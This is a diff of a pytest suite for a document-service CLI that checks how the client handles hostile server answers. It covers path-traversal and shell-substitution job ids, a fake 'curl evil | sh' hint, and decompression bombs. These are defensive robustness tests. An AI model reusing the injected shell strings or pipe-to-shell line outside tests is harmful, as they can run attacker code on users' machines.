@@ -1,4 +1,4 @@
-"""Answers that no server should give: nothing that was paid for is lost over them, nothing is run."""
+"""Answers that no server should give: nothing that was paid for is lost, and nothing in them is run."""
 
 from __future__ import annotations
 
@@ -14,8 +14,8 @@ from typing import Any
 import httpx
 import pytest
 
-from docspeed_cli.service import body as payload
-from docspeed_cli.service.transport import unpacked
+from docspeed_cli.service import body as service_body
+from docspeed_cli.service import transport
 from tests.fake_service import POLL, RESULT, SUBMIT, UPLOAD, Call, Reply, Service
 from tests.real.machine import Machine
 from tests.stage import Stage
@@ -26,7 +26,9 @@ TORN = "x\ud800"
 
 
 @pytest.mark.parametrize("member", ["job_id", "status"])
-def test_half_a_character_in_the_answer_to_a_submission(stage: Stage, service: Service, member: str) -> None:
+def test_submission_answer_with_a_lone_surrogate_is_accepted(
+    stage: Stage, service: Service, member: str
+) -> None:
     accepted = {"job_id": "job_1", "status": "queued", member: TORN}
     service.has(str(accepted["job_id"]), "completed")
     service.then(SUBMIT, Reply.of(202, accepted))
@@ -36,7 +38,7 @@ def test_half_a_character_in_the_answer_to_a_submission(stage: Stage, service: S
     assert stage.run("jobs", "list").code == stage.run("jobs", "list", terminal=True).code == 0
 
 
-def test_half_a_character_in_a_failure(stage: Stage, service: Service) -> None:
+def test_job_error_with_a_lone_surrogate_is_reported(stage: Stage, service: Service) -> None:
     service.has("job_1", TORN, "failed", error={"code": TORN, "message": TORN})
     service.then(SUBMIT, Reply.of(202, {"job_id": "job_1", "status": "queued"}))
     assert stage.run(*PARSE, "--wait").code == 5
@@ -44,7 +46,7 @@ def test_half_a_character_in_a_failure(stage: Stage, service: Service) -> None:
     assert stage.run(*PARSE, "--fresh").code == 9
 
 
-def test_half_a_character_in_a_file_s_id(stage: Stage, service: Service) -> None:
+def test_file_id_with_a_lone_surrogate_is_used(stage: Stage, service: Service) -> None:
     service.then(UPLOAD, Reply.of(200, {"files": [{"file_id": TORN}]}))
     assert stage.run("parse", stage.document("a.pdf"), "--wait").code == 0
 
@@ -52,7 +54,7 @@ def test_half_a_character_in_a_file_s_id(stage: Stage, service: Service) -> None
 @pytest.mark.parametrize(
     ("job_id", "segment"), [("..", "%2E%2E"), (".", "%2E"), ("a/../b", "a%2F..%2Fb"), ("?a#b", "%3Fa%23b")]
 )
-def test_an_id_is_one_segment_of_the_path(stage: Stage, job_id: str, segment: str) -> None:
+def test_job_id_with_path_characters_is_one_path_segment(stage: Stage, job_id: str, segment: str) -> None:
     asked: list[bytes] = []
 
     def handler(request: httpx.Request) -> httpx.Response:
@@ -63,13 +65,13 @@ def test_an_id_is_one_segment_of_the_path(stage: Stage, job_id: str, segment: st
     assert asked == [f"/v1/jobs/{segment}".encode(), f"/v1/jobs/{segment}/result".encode()]
 
 
-def test_an_empty_id_is_none(stage: Stage, service: Service) -> None:
+def test_empty_job_id_leaves_the_outcome_unknown(stage: Stage, service: Service) -> None:
     service.then(SUBMIT, Reply.of(202, {"job_id": "", "status": "queued"}))
     ran = stage.run(*PARSE)
     assert (ran.code, stage.states()) == (9, ["unknown"])
 
 
-def test_an_id_in_a_hint_is_a_word_and_no_command(stage: Stage, service: Service) -> None:
+def test_job_id_with_shell_syntax_is_quoted_in_hints(stage: Stage, service: Service) -> None:
     job_id = "$(touch owned); `id` 'x'"
     service.polls = 10**6
     service.has(job_id, *["queued"] * 100)
@@ -83,7 +85,7 @@ def test_an_id_in_a_hint_is_a_word_and_no_command(stage: Stage, service: Service
 MANY_DIGITS = b'{"pages": [], "n": ' + b"1" * 5000 + b"}"
 
 
-def test_a_number_of_many_digits_is_a_number(stage: Stage, service: Service) -> None:
+def test_result_with_a_very_long_integer_is_delivered(stage: Stage, service: Service) -> None:
     service.payload = lambda operation, body: MANY_DIGITS
     ran = stage.run(*PARSE, "--wait")
     assert (ran.code, ran.raw) == (0, MANY_DIGITS + b"\n")
@@ -91,13 +93,13 @@ def test_a_number_of_many_digits_is_a_number(stage: Stage, service: Service) -> 
     assert service.count(RESULT) == 2
 
 
-def test_a_sync_answer_with_such_a_number_is_an_answer(stage: Stage, service: Service) -> None:
+def test_sync_result_with_a_very_long_integer_is_delivered(stage: Stage, service: Service) -> None:
     service.then(SUBMIT, Reply(200, MANY_DIGITS))
     ran = stage.run(*PARSE, "--sync")
     assert (ran.code, ran.raw) == (0, MANY_DIGITS + b"\n")
 
 
-def test_a_status_that_is_nested_without_end_ends_the_wait(stage: Stage, service: Service) -> None:
+def test_status_nested_too_deeply_ends_the_wait(stage: Stage, service: Service) -> None:
     service.always(POLL, Reply(200, b'{"status": "queued", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"))
     ran = stage.run(*PARSE, "--wait")
     assert (ran.code, service.count(POLL)) == (9, 1)
@@ -118,7 +120,7 @@ class Endless(httpx.SyncByteStream):
 
 
 @pytest.mark.parametrize("ending", ["/jobs/job_1", "/upload"])
-def test_what_is_read_here_is_not_read_without_end(stage: Stage, service: Service, ending: str) -> None:
+def test_endless_status_and_upload_answers_are_cut_off(stage: Stage, service: Service, ending: str) -> None:
     endless = Endless()
 
     def handler(request: httpx.Request) -> httpx.Response:
@@ -134,14 +136,14 @@ def test_what_is_read_here_is_not_read_without_end(stage: Stage, service: Servic
     assert endless.taken < 64 << 20
 
 
-def test_a_job_object_may_repeat_the_request(stage: Stage, service: Service) -> None:
+def test_large_job_object_that_repeats_the_request_is_a_job(stage: Stage, service: Service) -> None:
     repeated = {"schema": {"fields": [{"key": f"field_{number}"} for number in range(10_000)]}}
     service.then(SUBMIT, Reply.of(202, {"job_id": "job_7", "status": "queued", "request": repeated}))
     ran = stage.run(*PARSE)
     assert (ran.code, json.loads(ran.out)["job_id"], stage.states()) == (0, "job_7", ["running"])
 
 
-def test_words_of_the_server_are_not_taken_for_the_program_s(stage: Stage, service: Service) -> None:
+def test_server_message_cannot_imitate_our_labels(stage: Stage, service: Service) -> None:
     said = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
     service.always(SUBMIT, Reply.of(422, {"detail": said}))
     for terminal in (False, True):
@@ -151,7 +153,7 @@ def test_words_of_the_server_are_not_taken_for_the_program_s(stage: Stage, servi
 
 
 @pytest.mark.parametrize("job_id", ["-", "--help", "@last", "@1"])
-def test_an_id_that_commands_would_take_for_something_else_is_named_by_its_row(
+def test_job_id_that_looks_like_an_option_is_named_by_its_row(
     stage: Stage, service: Service, job_id: str
 ) -> None:
     service.has(job_id, *["queued"] * 100)
@@ -160,13 +162,15 @@ def test_an_id_that_commands_would_take_for_something_else_is_named_by_its_row(
     assert ran.err.splitlines()[-1] == "hint: docspeed jobs wait @1"
 
 
-def test_a_request_id_is_an_id_and_no_book(stage: Stage, service: Service) -> None:
+def test_long_request_id_is_truncated(stage: Stage, service: Service) -> None:
     service.then(SUBMIT, Reply.of(422, {"detail": "no"}, X_Request_Id="r" * 60_000))
     assert len(stage.run(*PARSE).err) < 1000
 
 
 @pytest.mark.parametrize("zone", ["GMT", "+999999999999999"])
-def test_a_clock_that_no_calendar_has_is_no_crash(stage: Stage, service: Service, zone: str) -> None:
+def test_doctor_with_an_impossible_server_date_does_not_crash(
+    stage: Stage, service: Service, zone: str
+) -> None:
     service.always(
         POLL, Reply.of(404, {"detail": "x"}, Date=f"Mon, 99999999999999999999 Jan 2024 00:00:00 {zone}")
     )
@@ -174,10 +178,10 @@ def test_a_clock_that_no_calendar_has_is_no_crash(stage: Stage, service: Service
     assert (ran.code, "unexpected" in ran.err) == (0, False)
 
 
-def test_more_values_than_the_memory_holds_are_not_converted(
+def test_result_with_too_many_values_is_delivered_but_not_converted(
     stage: Stage, service: Service, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(payload, "MAX_JSON_VALUES", 200_000)
+    monkeypatch.setattr(service_body, "MAX_JSON_VALUES", 200_000)
     many = b'{"pages": [' + b"{}," * 150_000 + b"1]}"
     service.payload = lambda operation, body: many
     ran = stage.run(*PARSE, "--wait", "--format", "markdown")
@@ -185,76 +189,66 @@ def test_more_values_than_the_memory_holds_are_not_converted(
     assert stage.run(*PARSE, "--wait").raw == many + b"\n"
 
 
-def test_what_grows_where_it_is_laid_out_is_bounded_too() -> None:
-    shown, whole = payload.indented("[" * 1_000_000, 100_000)
+def test_indented_json_is_bounded() -> None:
+    shown, whole = service_body.indented("[" * 1_000_000, 100_000)
     assert (len(shown) < 101_000, whole) == (True, False)
 
 
 # -- packed
 
-
-def _packed(content: bytes, parts: int = 1) -> bytes:
-    size = -(-len(content) // parts)
-    return b"".join(gzip.compress(content[at : at + size]) for at in range(0, len(content), size))
+CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()
 
 
-def _answering(stage: Stage, service: Service, body: bytes) -> Stage:
-    def handler(request: httpx.Request) -> httpx.Response:
-        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
-        if request.url.path.endswith("/result"):
-            assert request.headers["accept-encoding"] == "gzip"
-            stream = httpx.ByteStream(body)
-            return httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=stream)
-        return httpx.Response(reply.status, content=reply.body)
-
-    return replace(stage, transport=lambda base_url: httpx.MockTransport(handler))
-
-
-@pytest.mark.parametrize("ending", ["/upload", "/parse", "/jobs/job_1", "/result"])
-@pytest.mark.parametrize("how", ["gzip, gzip", "deflate", "br"])
-def test_what_is_packed_in_a_way_not_asked_for_is_not_unpacked(
-    stage: Stage, service: Service, ending: str, how: str
-) -> None:
-    """Packed twice, ten kilobytes are gigabytes."""
+def _answering(stage: Stage, service: Service, ending: str, body: bytes, encoding: str = "gzip") -> Stage:
+    """A stage whose server answers with this packed body where the path ends so."""
 
     def handler(request: httpx.Request) -> httpx.Response:
         reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
         if not request.url.path.endswith(ending):
             return httpx.Response(reply.status, content=reply.body)
-        stream = httpx.ByteStream(gzip.compress(gzip.compress(reply.body)))
-        return httpx.Response(200, headers={"Content-Encoding": how}, stream=stream)
+        assert request.headers["accept-encoding"] == "gzip"
+        stream = httpx.ByteStream(body)
+        return httpx.Response(200, headers={"Content-Encoding": encoding}, stream=stream)
 
-    ran = replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run(
+    return replace(stage, transport=lambda base_url: httpx.MockTransport(handler))
+
+
+@pytest.mark.parametrize(
+    ("ending", "code"), [("/upload", 9), ("/parse", 9), ("/jobs/job_1", 8), ("/result", 9)]
+)
+def test_answer_in_another_encoding_than_gzip_is_not_unpacked(
+    stage: Stage, service: Service, ending: str, code: int
+) -> None:
+    """Packed twice, ten kilobytes are gigabytes."""
+    twice = gzip.compress(gzip.compress(CONTENT))
+    ran = _answering(stage, service, ending, twice, "gzip, gzip").run(
         "parse", stage.document("a.pdf"), "--wait", "--timeout", "40"
     )
-    assert (ran.code, ran.out) == (8 if ending == "/jobs/job_1" else 9, "")
-    assert "packed in a way not asked for" in ran.err
+    assert (ran.code, ran.out) == (code, "")
+    assert "the content encoding gzip, gzip was not asked for" in ran.err
     assert ending != "/parse" or stage.states() == ["unknown"]
 
 
-def test_a_packed_answer_comes_in_bounded_pieces() -> None:
-    body = gzip.compress(b" " * 50_000_000)
-    response = httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=httpx.ByteStream(body))
-    sizes = [len(piece) for piece in unpacked(response)]
-    assert (sum(sizes), max(sizes) <= 1 << 20) == (50_000_000, True)
+def test_answer_that_unpacks_to_too_much_is_refused(
+    stage: Stage, service: Service, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(transport, "MAX_UNPACKED_SIZE", 1 << 20)
+    ran = _answering(stage, service, "/result", gzip.compress(CONTENT)).run(*PARSE, "--wait")
+    assert (ran.code, ran.out, "unpacks to more than" in ran.err) == (9, "", True)
 
 
-CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()
-
-
-@pytest.mark.parametrize("parts", [1, 3])
-def test_a_packed_answer_is_unpacked(stage: Stage, service: Service, parts: int) -> None:
-    ran = _answering(stage, service, _packed(CONTENT, parts)).run(*PARSE, "--wait")
+def test_answer_in_gzip_is_unpacked(stage: Stage, service: Service) -> None:
+    ran = _answering(stage, service, "/result", gzip.compress(CONTENT)).run(*PARSE, "--wait")
     assert (ran.code, ran.raw) == (0, CONTENT + b"\n")
 
 
 @pytest.mark.parametrize(
     "body",
-    [_packed(CONTENT)[:-20], _packed(CONTENT)[:-4], b"not packed at all", zlib.compress(CONTENT)],
-    ids=["cut", "cut at its sum", "plain", "zlib"],
+    [gzip.compress(CONTENT)[:-20], b"not packed at all", zlib.compress(CONTENT)],
+    ids=["cut", "plain", "zlib"],
 )
-def test_a_torn_packed_answer_is_no_result(stage: Stage, service: Service, body: bytes) -> None:
-    ran = _answering(stage, service, body).run(*PARSE, "--wait")
+def test_answer_in_damaged_gzip_is_no_result(stage: Stage, service: Service, body: bytes) -> None:
+    ran = _answering(stage, service, "/result", body).run(*PARSE, "--wait")
     assert (ran.code, ran.out) == (9, "")
 
 
@@ -264,7 +258,7 @@ def test_a_torn_packed_answer_is_no_result(stage: Stage, service: Service, body:
 @pytest.mark.parametrize(
     "proxy", [{"HTTPS_PROXY": "socks5://127.0.0.1:1"}, {"HTTPS_PROXY": "bogus://x"}, {"NO_PROXY": "[::1"}]
 )
-def test_a_proxy_that_can_t_be_used_is_told_and_nothing_is_submitted(
+def test_unusable_proxy_is_reported_before_anything_is_submitted(
     tmp_path: Path, proxy: dict[str, str]
 ) -> None:
     """httpx reads the real environment, so this is a process of its own."""
